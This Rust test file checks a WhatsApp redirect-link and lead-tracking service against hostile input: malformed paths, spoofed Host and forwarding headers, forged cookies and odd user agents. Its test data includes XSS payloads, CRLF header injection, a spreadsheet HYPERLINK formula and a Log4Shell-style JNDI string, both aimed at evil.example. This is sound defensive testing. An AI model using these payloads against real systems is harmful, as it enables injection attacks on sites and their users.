//! What strangers send to a link, on the real binary: bad addresses, values that want to be more than text, cookies
//! and proxies that lie. Each gets its answer, none a fault of ours, and every person's visit is counted.

use crate::house::{ENGINES, House, Running};
use crate::http::{Answer, Request, get, post};
use crate::shop::{COOKIE, decoded, digits, encoded, fairly, link, make, projected, signed_in, visit, visits};
use std::collections::BTreeSet;
use store::Engine;

const NUMBERS: [&str; 2] = ["+6281234567890", "+6281234567891"];

fn promo(engine: Engine, message: &str, flags: &[&str]) -> (House, Running, String) {
    let house = House::new(engine);
    let token = house.token();
    let running = house.serve_with(flags);
    make(&running, &token, &link(message, &NUMBERS));
    (house, running, token)
}

fn tap(running: &Running, target: &str) -> Answer {
    fairly(running, get(target).phone())
}

#[test]
fn every_bad_address_has_its_answer_and_no_visit_is_lost() {
    let long_slug = format!("/wa/{}", "a".repeat(65));
    let longer_slug = format!("/wa/{}", "a".repeat(20_000));
    let long_query = format!("/wa/promo?x={}&utm_source=late", "a".repeat(16 * 1024));
    let parameters = format!("/wa/promo?{}", "utm_source=a&".repeat(1_200));
    let cases: Vec<(&[u8], u16)> = vec![
        (b"/wa/promo", 302),
        (b"/wa/PROMO", 302),
        (b"/wa/pRoMo/", 302),
        (b"/wa/promo///", 302),
        (b"/wa/%70romo", 302),
        (b"/wa/promo?", 302),
        (b"/wa/promo?&&&===&;;;", 302),
        (b"/wa/promo?utm_source=%", 302),
        (b"/wa/promo?utm_source=%F&k_%zz=%zz", 302),
        (b"/wa/promo?utm_source=%ff%fe&k_a=%c3%28", 302),
        (b"/wa/promo?utm_source=%00&utm_medium=%0d%0a", 302),
        (long_query.as_bytes(), 302),
        (parameters.as_bytes(), 302),
        (b"http://localhost/wa/promo", 302),
        (b"/wa/", 404),
        (b"/wa//promo", 404),
        (b"/wa/nobody", 404),
        (b"/wa/promo%2F", 404),
        (b"/wa/pro%2Fmo", 404),
        (b"/wa/..%2Fwa%2Fpromo", 404),
        (b"/wa/promo/extra", 404),
        (b"/wa/promo%00", 404),
        (b"/wa/%00", 404),
        (b"/wa/%", 404),
        (b"/wa/%ff%fe", 404),
        (b"/wa/%E2%80%AEpromo", 404),
        (b"/wa/promo%0d%0aSet-Cookie:%20a=b", 404),
        (b"/wa/promo%20", 404),
        (b"/wa/promo'--", 404),
        (long_slug.as_bytes(), 404),
        (longer_slug.as_bytes(), 404),
        (b"http://evil.example/wa/promo", 404),
        (b"/wa", 404),
    ];
    for engine in ENGINES {
        let (_house, running, token) = promo(engine, "Hi {{name}} {{utm_source}} {{code}}", &[]);
        for (target, status) in &cases {
            let shown = String::from_utf8_lossy(&target[..target.len().min(60)]).into_owned();
            let answer = fairly(&running, Request::new("GET", target).phone());
            assert_eq!(answer.status, *status, "{shown}: {answer:?}");
            if *status == 302 {
                assert!(digits(&answer).starts_with("62812"), "{shown}: {answer:?}");
                assert!(answer.location().len() <= 2_000, "{shown}");
            } else {
                assert!(answer.header("set-cookie").is_none(), "{shown}: {answer:?}");
            }
        }
        // Bytes that stand in no HTTP are refused before anybody looks at them.
        for target in [&b"/wa/pro\xffmo"[..], b"/wa/promo?a=\xff", b"/wa/promo\x01", b"promo"] {
            if let Ok(answer) = Request::new("GET", target).phone().try_send(running.address) {
                assert!(answer.status < 500, "{answer:?}");
            }
        }
        let huge = format!("/wa/promo?utm_source={}", "a".repeat(200_000));
        if let Ok(answer) = get(&huge).phone().try_send(running.address) {
            assert!((400..500).contains(&answer.status), "{answer:?}");
        }
        let counted = cases.iter().filter(|(_, status)| *status == 302).count();
        let known = visits(&running, &token, "kind=human").len();
        assert!(known == counted || known == counted + 1, "{engine:?}: {known} visits of {counted}");
        running.stop();
    }
}

#[test]
fn a_host_that_is_not_ours_finds_nothing() {
    let (_house, running, token) = promo(Engine::Sqlite, "Hi {{code}}", &[]);
    let long = "a".repeat(5_000);
    for host in ["localhost", "LOCALHOST:1", "localhost.", "127.0.0.1:80", "[::1]:8080"] {
        let answer = fairly(&running, get("/wa/promo").phone().header("Host", host));
        assert_eq!(answer.status, 302, "{host}: {answer:?}");
    }
    // Who names no host asks nobody.
    let nobody = fairly(&running, get("/wa/promo").phone().header("Host", ""));
    assert!(matches!(nobody.status, 400 | 404), "{nobody:?}");
    for host in [
        "evil.example",
        "localhost.evil.example",
        "10.0.0.1",
        "a b",
        "%00",
        ":::",
        "localhost@evil.example",
        long.as_str(),
    ] {
        let answer = fairly(&running, get("/wa/promo").phone().header("Host", host));
        assert!(matches!(answer.status, 400 | 404), "{host}: {answer:?}");
    }
    let spoofed = get("/wa/promo").phone().header("Host", "evil.example").header("X-Forwarded-Host", "localhost");
    assert_eq!(fairly(&running, spoofed).status, 404);
    assert_eq!(visits(&running, &token, "").len(), 5);
    running.stop();
}

#[test]
fn only_the_methods_that_mean_something_are_taken() {
    let (_house, running, _) = promo(Engine::Sqlite, "Hi {{code}}", &[]);
    for method in ["PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "BREW"] {
        let answer = fairly(&running, Request::new(method, b"/wa/promo").phone());
        assert_eq!(answer.status, 405, "{method}: {answer:?}");
        assert!(answer.header("allow").is_some(), "{answer:?}");
    }
    running.stop();
}

/// Values that want to be more than text.
const EVIL: [&str; 12] = [
    "a&phone=62899#x",
    "a?text=b&text=c",
    "x\r\nX-Evil: 1\r\n\r\n<html>",
    "<img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><svg/onload=alert(1)>",
    "{{code}}{{name}}",
    "[k:secret]{{utm_medium}}",
    "https://evil.example/%2e%2e/",
    "=HYPERLINK(\"http://evil.example\")",
    "\u{202e}drowssap\u{202c}",
    "{% include x %}${7*7}#{7*7}",
];

#[test]
fn a_value_from_an_address_opens_no_token_no_parameter_and_no_header_line() {
    let (_house, running, token) =
        promo(Engine::Sqlite, "Hi {{name}} <{{utm_campaign}}> [k:budget] {{code}} from {{lead}}.", &[]);
    for (nth, evil) in EVIL.iter().enumerate() {
        let value = encoded(evil);
        let target = format!(
            "/wa/promo?utm_content=e{nth}&utm_campaign={value}&utm_medium=MEDIUM&k_budget={value}&k_secret=SECRET&fbclid={value}"
        );
        let answer = tap(&running, &target);
        let location = answer.location();
        assert!(digits(&answer).starts_with("62812"), "{evil:?}: {answer:?}");
        // wa.me, one question mark, one parameter, and nothing that is not percent-encoded.
        let (_, text) = location.split_once("?text=").unwrap();
        let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_.~!*'()%".contains(&byte);
        assert!(text.bytes().all(plain), "{evil:?}: {location}");
        assert_eq!(answer.headers("location").len(), 1);
        assert!(answer.header("x-evil").is_none(), "{answer:?}");
        assert_eq!(answer.headers("set-cookie").len(), 1, "{answer:?}");
        assert!(answer.body.is_empty(), "{answer:?}");

        let said = decoded(text);
        assert_eq!(said.matches("[K-").count(), 1, "{evil:?}: one code: {said}");
        assert!(!said.contains("SECRET") && !said.contains("MEDIUM"), "{evil:?}: {said}");
        assert_eq!(said.matches("Sari").count() + said.matches("Budi").count(), 1, "{evil:?}: one name: {said}");
        let kept: String = evil.chars().filter(|c| !c.is_control() && !('\u{202a}'..='\u{202e}').contains(c)).collect();
        let shown = |text: &str| text.chars().filter(|c| !c.is_whitespace()).collect::<String>();
        let (said, kept) = (shown(&said), shown(&kept));
        assert_eq!(said.matches(&kept).count(), 2, "{evil:?} stands there as it is: {said}");

        let seen = visit(&running, &token, &format!("e{nth}"));
        assert_eq!(shown(seen["utm"]["campaign"].as_str().unwrap()), kept, "{seen}");
        assert_eq!(shown(seen["click_ids"]["fbclid"].as_str().unwrap()), kept, "{seen}");
    }
    running.stop();
}

#[test]
fn the_desk_shows_what_strangers_wrote_as_text() {
    let (_house, running, token) = promo(Engine::Sqlite, "Hi {{name}} {{utm_campaign}} {{code}}", &[]);
    for (nth, evil) in EVIL.iter().enumerate() {
        let value = encoded(evil);
        let agent = evil.replace(['\r', '\n'], "");
        let request = get(&format!(
            "/wa/promo?utm_content=e{nth}&utm_source={value}&utm_campaign={value}&utm_term={value}&gclid={value}&k_budget={value}"
        ));
        let request = request
            .header("User-Agent", &format!("Mozilla/5.0 (Linux; Android 14; {agent}) Chrome/130.0.0.0 Mobile"))
            .header("Referer", &format!("https://evil.example/{agent}"))
            .header("Accept-Language", &format!("id-ID,{}", agent.replace(',', "")));
        assert_eq!(fairly(&running, request).status, 302, "{evil:?}");
    }
    projected(&running);
    let session = signed_in(&running);
    let leads = running.send(get("/api/v1/leads?limit=200").bearer(&token)).json();
    let leads = leads["items"].as_array().unwrap().clone();
    assert_eq!(leads.len(), EVIL.len());
    let seen = visits(&running, &token, "");
    let mut pages: Vec<String> =
        ["/app", "/app/leads", "/app/visits", "/app/links", "/app?by=campaign", "/app?by=source"]
            .iter()
            .map(|page| (*page).to_owned())
            .collect();
    pages.extend(leads.iter().map(|lead| format!("/app/leads/{}", lead["id"].as_str().unwrap())));
    pages.extend(seen.iter().map(|visit| format!("/app/visits/{}", visit["id"].as_str().unwrap())));
    pages.extend(EVIL.iter().map(|evil| format!("/app/leads?q={}", encoded(evil))));
    pages.extend(EVIL.iter().map(|evil| format!("/app/find?q={}", encoded(evil))));
    let mut escaped = 0;
    for page in &pages {
        let answer = fairly(&running, get(page).header("Cookie", &session).header("Accept", "text/html"));
        assert!(matches!(answer.status, 200 | 303), "{page}: {answer:?}");
        for tag in ["<img src=x", "<script>alert", "<svg/onload", "\"><script"] {
            assert!(!answer.body.contains(tag), "{page} holds {tag:?}");
        }
        // A search shows its own question as it was typed.
        assert!(page.contains("?q=") || !answer.body.contains('\u{202e}'), "{page} turns the direction of its text");
        escaped += usize::from(answer.body.contains("onerror=alert(1)"));
    }
    assert!(escaped >= 2, "the values are shown at all");
    let export = fairly(&running, get("/app/leads/export.csv").header("Cookie", &session));
    assert_eq!(export.status, 200, "{export:?}");
    assert!(export.body.contains("HYPERLINK"), "{}", export.body);
    for cell in export.body.split([',', '\n']) {
        assert!(!cell.trim_start_matches('"').starts_with("=HYPERLINK"), "a formula in {cell:?}");
    }
    running.stop();
}

#[test]
fn the_page_to_leave_a_number_on_echoes_text_as_text() {
    let house = House::new(Engine::Sqlite);
    let token = house.token();
    let running = house.serve();
    make(&running, &token, &link("Hi", &[]));
    // Quotes and brackets as they are stand in no address of HTTP; encoded or single ones do.
    let raw = fairly(&running, Request::new("GET", b"/wa/promo?x=\"><script>alert(1)</script>").phone());
    assert_eq!(raw.status, 400, "{raw:?}");
    let target = format!("/wa/promo?utm_campaign={}&x='onload='alert(1)", encoded(EVIL[4]));
    let page = fairly(&running, get(&target).phone());
    assert_eq!(page.status, 200, "{page:?}");
    assert!(!page.body.contains("'onload='"), "{}", page.body);
    assert!(!page.body.contains("<script>alert") && !page.body.contains("\"><script"), "{}", page.body);
    for evil in EVIL {
        let form = format!("name={0}&phone={0}&note={0}", encoded(evil));
        let sent = fairly(&running, post("/wa/promo").phone().body("application/x-www-form-urlencoded", &form));
        assert_eq!(sent.status, 422, "{evil:?}: {sent:?}");
        for tag in ["<img src=x", "<script>alert", "<svg/onload", "\"><script"] {
            assert!(!sent.body.contains(tag), "{evil:?}: {}", sent.body);
        }
    }
    let too_large = format!("name={}", "a".repeat(100_000));
    let sent = fairly(&running, post("/wa/promo").phone().body("application/x-www-form-urlencoded", &too_large));
    assert_eq!(sent.status, 413, "{sent:?}");
    let form = format!("name={}&phone=0812-3456-7890&note={}", encoded("<b>Ayu</b>"), encoded("a\r\nb"));
    let thanks = fairly(&running, post("/wa/promo").phone().body("application/x-www-form-urlencoded", &form));
    assert_eq!(thanks.status, 200, "{thanks:?}");
    assert!(!thanks.body.contains("<b>Ayu"), "{}", thanks.body);
    projected(&running);
    let leads = running.send(get("/api/v1/leads?limit=50").bearer(&token)).json();
    let named: Vec<_> = leads["items"].as_array().unwrap().iter().filter(|lead| !lead["name"].is_null()).collect();
    assert_eq!(named.len(), 1, "{leads}");
    assert_eq!((named[0]["name"].as_str(), named[0]["phone"].as_str()), (Some("<b>Ayu</b>"), Some("+6281234567890")));
    running.stop();
}

#[test]
fn a_click_id_of_five_hundred_characters_is_kept_whole_and_of_repeated_parameters_the_first() {
    for engine in ENGINES {
        let (_house, running, token) = promo(engine, "Hi {{utm_source}} {{code}}", &[]);
        let id: String = ("IwAR0-_.~".chars().cycle().take(500)).collect();
        let answer = tap(&running, &format!("/wa/promo?utm_content=long&fbclid={id}&fbclid=second"));
        assert_eq!(answer.status, 302);
        let seen = visit(&running, &token, "long");
        assert_eq!(seen["click_ids"]["fbclid"], id.as_str(), "{engine:?}");
        let lead = seen["lead_id"].as_str().unwrap();
        let lead = running.send(get(&format!("/api/v1/leads/{lead}")).bearer(&token)).json();
        assert_eq!(lead["first_touch"]["click_ids"]["fbclid"], id.as_str(), "{engine:?}");

        tap(&running, "/wa/promo?utm_content=twice&utm_source=&utm_source=first&UTM_SOURCE=second&utm_content=x");
        assert_eq!(visit(&running, &token, "twice")["utm"]["source"], "first");
        let long = "é".repeat(6_000);
        let answer = tap(&running, &format!("/wa/promo?utm_content=wide&utm_source={}", encoded(&long)));
        assert!(answer.location().len() <= 2_000, "{}", answer.location().len());
        assert!(decoded(answer.location()).contains("[K-"), "the code is never shortened");
        running.stop();
    }
}

fn code_of(cookie: &str) -> &str {
    cookie.split('.').nth(1).unwrap()
}

#[test]
fn forged_cut_and_foreign_cookies_are_a_new_visitor() {
    let (_house, running, token) = promo(Engine::Sqlite, "Hi {{code}}", &[]);
    let mine = tap(&running, "/wa/promo").cookie(COOKIE).unwrap();
    let other = tap(&running, "/wa/promo").cookie(COOKIE).unwrap();
    let (_elsewhere, neighbour, _) = promo(Engine::Sqlite, "Hi {{code}}", &[]);
    let foreign = tap(&neighbour, "/wa/promo").cookie(COOKIE).unwrap();
    neighbour.stop();

    let value = mine.split_once('=').unwrap().1.to_owned();
    let parts: Vec<&str> = value.split('.').collect();
    let theirs: Vec<&str> = other.split_once('=').unwrap().1.split('.').collect();
    let mut forged: Vec<String> = (0..value.len()).step_by(3).map(|end| value[..end].to_owned()).collect();
    forged.extend((0..value.len()).step_by(5).map(|at| {
        let flipped = if &value[at..=at] == "A" { "B" } else { "A" };
        format!("{}{flipped}{}", &value[..at], &value[at + 1..])
    }));
    forged.extend([
        foreign.split_once('=').unwrap().1.to_owned(),
        format!("{}.{}.{}.{}", parts[0], theirs[1], parts[2], parts[3]),
        format!("{}.{}.{}.{}", parts[0], parts[1], parts[2], theirs[3]),
        format!("2.{}.{}.{}", parts[1], parts[2], parts[3]),
        format!("{}.{}.-.{}", parts[0], parts[1], parts[3]),
        format!("{}.{}.{}.", parts[0], parts[1], parts[2]),
        format!("{value}A"),
        format!("{value}.{value}"),
        "A".repeat(4_000),
        "%00%0d%0a".to_owned(),
        "..".to_owned(),
        "...".to_owned(),
    ]);
    // A last character may carry bits that mean nothing; what decodes to the very same is no forgery.
    forged.retain(|text| *text != value);
    let mut codes = BTreeSet::new();
    for text in &forged {
        let answer = fairly(&running, get("/wa/promo").phone().header("Cookie", &format!("{COOKIE}={text}")));
        assert_eq!(answer.status, 302, "{text}");
        let given = answer.cookie(COOKIE).unwrap_or_else(|| panic!("{text}: no new cookie: {answer:?}"));
        assert_ne!(code_of(&given), code_of(&mine), "{text} was believed");
        assert_ne!(code_of(&given), code_of(&other), "{text} was believed");
        assert!(codes.insert(code_of(&given).to_owned()), "{text}: a fresh visitor has a code of its own");
    }
    // Ours among others' is found, and it is the same visitor.
    let crowd = format!("a=b; {COOKIE}=nonsense; {foreign}; {mine}; z=\"y\"");
    let answer = fairly(&running, get("/wa/promo").phone().header("Cookie", &crowd));
    assert_eq!(code_of(&answer.cookie(COOKIE).unwrap()), code_of(&mine));
    let known = visits(&running, &token, "kind=human");
    assert_eq!(known.len(), 2 + forged.len() + 1, "every visit is there");
    assert_eq!(known.iter().filter(|visit| visit["new_lead"] == true).count(), 2 + forged.len());
    running.stop();
}

fn ip_of(running: &Running, token: &str, nth: usize, headers: &[(&str, &str)]) -> String {
    let mut request = get(&format!("/wa/promo?utm_content=ip{nth}")).phone();
    for (name, value) in headers {
        request = request.header(name, value);
    }
    assert_eq!(fairly(running, request).status, 302, "{headers:?}");
    visit(running, token, &format!("ip{nth}"))["ip"].as_str().unwrap().to_owned()
}

#[test]
fn what_a_stranger_says_of_its_address_is_not_believed() {
    let (_house, running, token) = promo(Engine::Sqlite, "Hi {{code}}", &[]);
    let lies: [&[(&str, &str)]; 5] = [
        &[("X-Forwarded-For", "203.0.113.9")],
        &[("X-Forwarded-For", "203.0.113.9, 127.0.0.1")],
        &[("Forwarded", "for=203.0.113.9")],
        &[("X-Real-IP", "203.0.113.9"), ("True-Client-IP", "203.0.113.9"), ("CF-Connecting-IP", "203.0.113.9")],
        &[("CF-IPCountry", "ES"), ("X-Forwarded-For", "2001:db8::1")],
    ];
    for (nth, headers) in lies.iter().enumerate() {
        assert_eq!(ip_of(&running, &token, nth, headers), "127.0.0.1", "{headers:?}");
    }
    assert!(visits(&running, &token, "").iter().all(|visit| visit["country"].is_null()), "no country is believed");
    running.stop();
}

#[test]
fn a_trusted_proxy_is_believed_as_far_as_trust_goes() {
    let flags = ["--trusted-proxy", "127.0.0.0/8", "--trusted-proxy", "10.0.0.0/8", "--trusted-proxy", "fd00::/8"];
    let (_house, running, token) = promo(Engine::Sqlite, "Hi {{code}}", &flags);
    let long = format!("{}203.0.113.9", "198.51.100.1, ".repeat(1_000));
    let name = "X-Forwarded-For";
    let cases: Vec<(Vec<(&str, &str)>, &str)> = vec![
        (vec![(name, "203.0.113.9")], "203.0.113.9"),
        (vec![(name, "198.51.100.1, 203.0.113.9")], "203.0.113.9"),
        (vec![(name, "203.0.113.9, 10.0.0.1")], "203.0.113.9"),
        (vec![(name, "198.51.100.1,203.0.113.9 ,10.0.0.1,  10.9.9.9")], "203.0.113.9"),
        (vec![(name, "203.0.113.9:4711")], "203.0.113.9"),
        (vec![(name, "2001:db8::7")], "2001:db8::7"),
        (vec![(name, "2001:DB8:0:0::7, fd00::1")], "2001:db8::7"),
        (vec![(name, "[2001:db8::7]:443")], "2001:db8::7"),
        (vec![(name, "::ffff:203.0.113.5")], "203.0.113.5"),
        (vec![(name, "10.0.0.1, 10.0.0.2")], "10.0.0.1"),
        (vec![(name, "unknown")], "127.0.0.1"),
        (vec![(name, "203.0.113.9, garbage")], "127.0.0.1"),
        (vec![(name, "203.0.113.9, unknown, 10.0.0.1")], "10.0.0.1"),
        (vec![(name, "")], "127.0.0.1"),
        (vec![(name, ",,,")], "127.0.0.1"),
        (vec![(name, long.as_str())], "203.0.113.9"),
        (vec![("Forwarded", "for=\"[2001:db8::9]:1234\";proto=https, for=10.0.0.1")], "2001:db8::9"),
        (vec![("Forwarded", "for=203.0.113.9"), (name, "198.51.100.7")], "198.51.100.7"),
        // A proxy that adds a line of its own below the visitor's.
        (vec![(name, "198.51.100.1"), (name, "203.0.113.9")], "203.0.113.9"),
        (vec![(name, "198.51.100.1"), (name, "203.0.113.9"), (name, "10.0.0.1")], "203.0.113.9"),
    ];
    for (nth, (headers, expected)) in cases.iter().enumerate() {
        assert_eq!(ip_of(&running, &token, nth, headers), *expected, "{headers:?}");
    }
    running.stop();
}

#[test]
fn a_missing_or_absurd_user_agent_still_gets_where_it_wants_to() {
    for engine in ENGINES {
        let (_house, running, token) = promo(engine, "Hi {{code}}", &[]);
        let long = format!("Mozilla/5.0 (Linux; Android 14) {}", "x".repeat(8_000));
        let odd = "Mozilla/5.0 (Linux; Android 14; \u{1f600} téléphone) Chrome/130.0.0.0 Mobile Safari/537.36";
        let agents: [Option<&[u8]>; 8] = [
            None,
            Some(b""),
            Some(b" "),
            Some(b"-"),
            Some(long.as_bytes()),
            Some(odd.as_bytes()),
            Some(b"Mozilla/5.0 (Linux; Android 14; T\xe9l\xe9phone) Chrome/130.0.0.0 Mobile Safari/537.36"),
            Some(b"\t\t<script>alert(1)</script>\t%s%n${jndi:ldap://evil.example}"),
        ];
        for (nth, agent) in agents.iter().enumerate() {
            let target = format!("/wa/promo?utm_content=ua{nth}");
            let mut request = get(&target).header("Accept-Language", "id");
            if let Some(agent) = agent {
                request = request.raw_header("User-Agent", agent);
            }
            let answer = fairly(&running, request);
            assert!(digits(&answer).starts_with("62812"), "{agent:?}: {answer:?}");
            let seen = visit(&running, &token, &format!("ua{nth}"));
            // The first four name nothing at all.
            let person = nth >= 4;
            assert_eq!(seen["kind"] == "human", person, "{engine:?}: {agent:?}: {seen}");
            assert_eq!(answer.cookie(COOKIE).is_some(), person, "{agent:?}");
        }
        // Control bytes stand in no header of HTTP.
        let refused = get("/wa/promo").raw_header("User-Agent", b"a\x00\x01b").send(running.address);
        assert_eq!(refused.status, 400, "{refused:?}");
        assert_eq!(fairly(&running, get("/healthz")).status, 200);
        running.stop();
    }
}

#[test]
fn bytes_that_no_address_may_have_are_answered_and_not_hung_up_on() {
    let (_house, running, token) = promo(Engine::Sqlite, "Hi {{code}}", &[]);
    let bad: [&[u8]; 5] =
        [b"/wa/promo\x7f", b"/wa/promo?a=\x01", b"/wa/promo?a=\xff\xfe", b"/wa/pro\x00mo", b"wa/promo"];
    for target in bad {
        let answer = Request::new("GET", target).phone().send(running.address);
        assert_eq!(answer.status, 400, "{target:?}: {answer:?}");
    }
    let long = format!("/wa/promo?a={}", "x".repeat(70_000));
    assert_eq!(get(&long).phone().send(running.address).status, 414);
    // Raw UTF-8, which some programs write into addresses, is somebody's visit all the same.
    let answer = fairly(&running, Request::new("GET", "/wa/promo?utm_content=caf\u{e9}".as_bytes()).phone());
    assert_eq!(answer.status, 302, "{answer:?}");
    assert_eq!(visit(&running, &token, "caf\u{e9}")["utm"]["content"], "caf\u{e9}");
    running.stop();
}
